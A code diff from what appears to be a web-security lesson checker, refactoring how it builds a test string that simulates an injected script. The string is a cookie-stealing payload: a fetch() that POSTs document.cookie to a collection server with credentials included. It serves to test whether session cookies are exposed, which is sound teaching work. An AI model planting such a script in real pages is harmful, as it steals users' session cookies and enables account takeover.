@@ -13,16 +13,21 @@ import {
   type Answered,
   type CountedPage,
 } from '../exchange-queries.ts'
+import type { FromScene } from '../from-scene.ts'
 import { step } from '../step.ts'
-import type { Scene } from '../scene.ts'
 import { failedVerdict, passed, pending, type Verdict } from '../../stream/verdict.ts'
 import { cookieSent } from './requests-with-cookie.ts'
 
 const field = 'document.cookie'
 
 // What a script that was smuggled into the page would do: read the cookies, and send them where it likes.
-const stealing = ({ urls }: Scene): string =>
-  `fetch(${JSON.stringify(urls.kv)}, { method: 'POST', mode: 'no-cors', credentials: 'include', body: new URLSearchParams({ '${field}': document.cookie }) })`
+const stealing: FromScene<string> = {
+  join: [
+    'fetch("',
+    { from: 'address', server: 'kv' },
+    `", { method: 'POST', mode: 'no-cors', credentials: 'include', body: new URLSearchParams({ '${field}': document.cookie }) })`,
+  ],
+}
 
 const check = ({ exchanges, settings }: LessonRecord): Verdict => {
   const name = settings.SESSION_COOKIE_NAME
